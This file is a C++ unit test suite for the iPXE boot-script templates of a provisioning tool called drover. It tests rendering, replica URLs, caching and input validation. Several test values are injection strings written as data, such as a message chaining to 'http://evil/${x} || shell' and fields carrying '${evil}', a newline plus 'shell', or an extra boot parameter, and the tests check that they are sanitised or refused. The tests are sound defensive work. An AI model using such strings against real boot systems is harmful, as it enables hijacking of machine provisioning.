#include "templates/ipxe.hpp"

#include <gtest/gtest.h>

#include "templates/template.hpp"

namespace drover::templates {
namespace {

BootScriptParams sample(bool efi) {
  BootScriptParams p;
  p.base_url = "http://192.0.2.1:8080";
  p.node = "worker-1";
  p.efi = efi;
  p.kernel_url = "http://192.0.2.1:8080/assets/boot-env/vmlinuz";
  p.initrd_url = "http://192.0.2.1:8080/assets/boot-env/initrd.img";
  p.api_url = "https://192.0.2.1:8443";
  p.ca_fingerprint = "sha256:" + std::string(64, 'a');
  p.token = "tok_EN-abc";
  return p;
}

std::string lineWith(const std::string& script, std::string_view start) {
  std::size_t pos = 0;
  while (pos < script.size()) {
    std::size_t end = script.find('\n', pos);
    std::string line = script.substr(pos, end - pos);
    if (line.rfind(start, 0) == 0) return line;
    if (end == std::string::npos) break;
    pos = end + 1;
  }
  return {};
}

const char* kSelf =
    "http://192.0.2.1:8080/boot.ipxe?mac=${netX/"
    "mac}&uuid=${uuid}&arch=${buildarch}&platform=${platform}";

TEST(IpxeTest, EntryChainsWithIdentity) {
  auto s = renderScript(Script::kEntry, sample(false));
  ASSERT_TRUE(s.ok()) << s.error().message;
  EXPECT_EQ(s->rfind("#!ipxe\n", 0), 0u);
  EXPECT_EQ(lineWith(*s, "chain --autofree --replace http"),
            std::string("chain --autofree --replace ") + kSelf + " || goto retry");
  EXPECT_NE(s->find("isset ${netX/mac} || dhcp"), std::string::npos);
}

TEST(IpxeTest, InstallBios) {
  auto s = renderScript(Script::kInstall, sample(false));
  ASSERT_TRUE(s.ok()) << s.error().message;
  EXPECT_EQ(lineWith(*s, "kernel "),
            "kernel http://192.0.2.1:8080/assets/boot-env/vmlinuz "
            "drover.api=https://192.0.2.1:8443 drover.ca=sha256:" +
                std::string(64, 'a') +
                " drover.token=tok_EN-abc drover.node=worker-1 drover.mode=install console=tty0 "
                "console=ttyS0,115200n8"
                " || goto failed");
  EXPECT_EQ(
      lineWith(*s, "initrd "),
      "initrd --name initrd.img http://192.0.2.1:8080/assets/boot-env/initrd.img || goto failed");
  EXPECT_EQ(lineWith(*s, "boot"), "boot || goto failed");
  EXPECT_EQ(lineWith(*s, "chain "), std::string("chain --autofree --replace ") + kSelf);
}

TEST(IpxeTest, TheBootEnvironmentNamesTheOtherReplicasAfterThisServer) {
  auto p = sample(false);
  p.api_alternates = {"https://192.0.2.2:8443", "https://192.0.2.1:8443", "https://192.0.2.3:8443"};
  const std::string api =
      "drover.api=https://192.0.2.1:8443,https://192.0.2.2:8443,https://192.0.2.3:8443 drover.ca=";
  for (auto kind : {Script::kInstall, Script::kDiscover, Script::kCapture}) {
    auto s = renderScript(kind, p);
    ASSERT_TRUE(s.ok()) << s.error().message;
    EXPECT_NE(lineWith(*s, "kernel ").find(api), std::string::npos) << *s;
  }
  auto data = scriptData(p);
  ASSERT_TRUE(data.ok());
  EXPECT_EQ((*data)["api_url"], "https://192.0.2.1:8443");  // overrides keep the single URL

  p.api_alternates = {"https://192.0.2.2:8443 drover.mode=discover"};
  auto bad = renderScript(Script::kInstall, p);
  ASSERT_FALSE(bad.ok());
  EXPECT_EQ(bad.error().code, "bad_script_value");
  p.api_alternates = {"https://192.0.2.2:8443,https://198.51.100.9:8443"};
  EXPECT_FALSE(renderScript(Script::kInstall, p).ok());
}

TEST(IpxeTest, InstallEfiNamesTheInitrd) {
  auto p = sample(true);
  p.extra_args = "quiet ip=dhcp";
  auto s = renderScript(Script::kInstall, p);
  ASSERT_TRUE(s.ok());
  std::string kernel = lineWith(*s, "kernel ");
  EXPECT_EQ(
      kernel.rfind(
          "kernel http://192.0.2.1:8080/assets/boot-env/vmlinuz initrd=initrd.img drover.api=", 0),
      0u);
  EXPECT_NE(kernel.find("console=ttyS0,115200n8 quiet ip=dhcp || goto failed"), std::string::npos);
}

TEST(IpxeTest, LocalBootBiosAndUefi) {
  auto bios = renderScript(Script::kLocalBoot, sample(false));
  ASSERT_TRUE(bios.ok());
  EXPECT_EQ(lineWith(*bios, "sanboot"), "sanboot --no-describe --drive 0x80 || goto failed");
  EXPECT_EQ(bios->find("exit"), std::string::npos);
  EXPECT_EQ(bios->find("kernel"), std::string::npos);  // never a reinstall
  auto uefi = renderScript(Script::kLocalBoot, sample(true));
  ASSERT_TRUE(uefi.ok());
  EXPECT_EQ(lineWith(*uefi, "sanboot"), "sanboot --no-describe --drive 0x80 || exit 1");
  EXPECT_NE(uefi->find("# UEFI"), std::string::npos);
  EXPECT_EQ(uefi->find("drover.mode"), std::string::npos);
  EXPECT_EQ(uefi->find("chain --autofree http"), std::string::npos);
}

// x64 UEFI with the network GRUB: the script chains it instead of sanboot.
TEST(IpxeTest, LocalBootUefiChainsGrub) {
  auto p = sample(true);
  p.grub_url = "http://192.0.2.1:8080/grubnetx64.efi";
  auto s = renderScript(Script::kLocalBoot, p);
  ASSERT_TRUE(s.ok()) << s.error().message;
  EXPECT_EQ(lineWith(*s, "chain --autofree http"),
            "chain --autofree http://192.0.2.1:8080/grubnetx64.efi || goto failed");
  EXPECT_EQ(s->find("sanboot"), std::string::npos);
  EXPECT_EQ(s->find("exit"), std::string::npos);
  EXPECT_EQ(s->find("kernel"), std::string::npos);
  // An unsafe URL is refused.
  p.grub_url = "http://192.0.2.1:8080/grub net.efi";
  EXPECT_FALSE(renderScript(Script::kLocalBoot, p).ok());
}

TEST(IpxeTest, DiscoverMode) {
  auto p = sample(false);
  p.node.clear();
  auto s = renderScript(Script::kDiscover, p);
  ASSERT_TRUE(s.ok()) << s.error().message;
  std::string kernel = lineWith(*s, "kernel ");
  EXPECT_NE(kernel.find(" drover.mode=discover "), std::string::npos);
  EXPECT_EQ(kernel.find("drover.node"), std::string::npos);
  EXPECT_EQ(kernel.find("initrd=initrd.img"), std::string::npos);
}

TEST(IpxeTest, FailedShowsSanitisedMessageAndRetries) {
  auto p = sample(false);
  p.message = "disk /dev/sda too small\nchain http://evil/${x} || shell";
  p.retry_seconds = 60;
  auto s = renderScript(Script::kFailed, p);
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(
      lineWith(*s, "echo Drover: worker-1 FAILED"),
      "echo Drover: worker-1 FAILED: disk /dev/sda too small_chain http://evil/__x_ __ shell");
  EXPECT_EQ(lineWith(*s, "sleep"), "sleep 60");
  EXPECT_EQ(lineWith(*s, "chain "), std::string("chain --autofree --replace ") + kSelf);
}

TEST(IpxeTest, CaptureBootsTheEnvironmentInCaptureMode) {
  auto s = renderScript(Script::kCapture, sample(true));
  ASSERT_TRUE(s.ok()) << s.error().message;
  std::string kernel = lineWith(*s, "kernel ");
  EXPECT_NE(kernel.find(" drover.mode=capture "), std::string::npos);
  EXPECT_EQ(kernel.find("drover.mode=install"), std::string::npos);
  EXPECT_NE(kernel.find("drover.node=worker-1"), std::string::npos);
  EXPECT_NE(kernel.find("initrd=initrd.img"), std::string::npos);
}

TEST(IpxeTest, IgnoreSaysWhyAndExits) {
  auto p = sample(false);
  p.message = "unknown machine, not in the inventory: defaults.unknown is ignore ${x}";
  auto s = renderScript(Script::kIgnore, p);
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(*s,
            "#!ipxe\necho Drover: unknown machine, not in the inventory: defaults.unknown is "
            "ignore __x_\nexit 1\n");
}

TEST(IpxeTest, UnsafeValuesAreRefused) {
  auto p = sample(false);
  p.token = "abc ${evil}";
  EXPECT_EQ(renderScript(Script::kInstall, p).error().code, "bad_script_value");
  p = sample(false);
  p.kernel_url = "http://x/a\nshell";
  EXPECT_FALSE(renderScript(Script::kInstall, p).ok());
  p = sample(false);
  p.node = "a b";
  EXPECT_FALSE(renderScript(Script::kInstall, p).ok());
  p = sample(false);
  p.base_url.clear();
  EXPECT_FALSE(renderScript(Script::kEntry, p).ok());
}

TEST(IpxeTest, OverridesAreCheckedToo) {
  auto s = renderScript(Script::kInstall, sample(false), "#!ipxe\necho {{node}} {{no_such_key}}\n");
  ASSERT_FALSE(s.ok());
  EXPECT_EQ(s.error().message, "install.ipxe: 2:15: missing 'no_such_key'");
  auto ok = renderScript(Script::kInstall, sample(false), "#!ipxe\necho {{node}}\n");
  EXPECT_EQ(*ok, "#!ipxe\necho worker-1\n");
}

TEST(IpxeTest, EveryBuiltinNeedsOnlyScriptData) {
  auto data = scriptData(sample(true));
  ASSERT_TRUE(data.ok());
  for (Script s : {Script::kEntry, Script::kInstall, Script::kLocalBoot, Script::kDiscover,
                   Script::kFailed, Script::kCapture, Script::kIgnore}) {
    auto t = Template::parse(std::string(scriptName(s)), std::string(builtinScript(s)));
    ASSERT_TRUE(t.ok());
    EXPECT_TRUE(t->missingNames(*data).empty()) << scriptName(s);
  }
}

// Built-in scripts are rendered once per set of values and get each request's token put
// in: every kind, with and without a token, with values that change, must equal a fresh
// render of the same template text (an override is always rendered afresh).
TEST(IpxeTest, RenderedScriptsEqualFreshRendersWithEachToken) {
  const Script kinds[] = {Script::kEntry,  Script::kInstall, Script::kLocalBoot, Script::kDiscover,
                          Script::kFailed, Script::kCapture, Script::kIgnore};
  for (const auto kind : kinds) {
    for (int variant = 0; variant < 6; ++variant) {
      auto p = sample(variant % 2 == 1);
      if (variant == 2) p.token.clear();
      if (variant == 3) p.api_alternates = {"https://192.0.2.2:8443", "https://192.0.2.3:8443"};
      if (variant == 4) p.message = "disk /dev/sda failed <again>";
      if (variant == 5) p.node = "worker-2";
      for (const char* token : {"tok_A", "tok_B-longer.than_the_slot_in_the_cache_abcdefgh"}) {
        if (!p.token.empty()) p.token = token;
        const auto cached = renderScript(kind, p);
        const auto fresh = renderScript(kind, p, builtinScript(kind));
        ASSERT_TRUE(cached.ok() && fresh.ok()) << scriptName(kind) << " " << variant;
        EXPECT_EQ(*cached, *fresh) << scriptName(kind) << " " << variant << " " << token;
        if (!p.token.empty() && (kind == Script::kInstall || kind == Script::kDiscover)) {
          EXPECT_NE(cached->find(std::string("drover.token=") + token), std::string::npos);
        }
      }
    }
  }
  auto bad = sample(false);
  bad.token = "two words";
  EXPECT_FALSE(renderScript(Script::kInstall, bad).ok());
}

}  // namespace
}  // namespace drover::templates
